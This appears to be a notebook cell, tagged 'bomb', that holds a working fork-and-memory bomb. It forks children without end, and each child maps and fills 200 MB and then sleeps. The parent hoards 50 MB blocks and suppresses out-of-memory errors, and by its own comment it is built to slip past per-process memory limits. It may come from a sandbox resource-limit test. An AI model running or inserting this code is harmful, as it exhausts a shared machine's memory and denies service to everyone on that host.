# %% [markdown] tags=["bomb"]
# Takes memory without end, shared between children, where a bound on one process does not see it.

# %%
import mmap
import os
import time

hoard = []
while not NO_WALL:
    try:
        if os.fork() == 0:
            block = mmap.mmap(-1, 200_000_000)
            block.write(b"x" * 200_000_000)
            time.sleep(10**6)
        hoard.append(b"x" * 50_000_000)
    except (OSError, MemoryError):
        pass
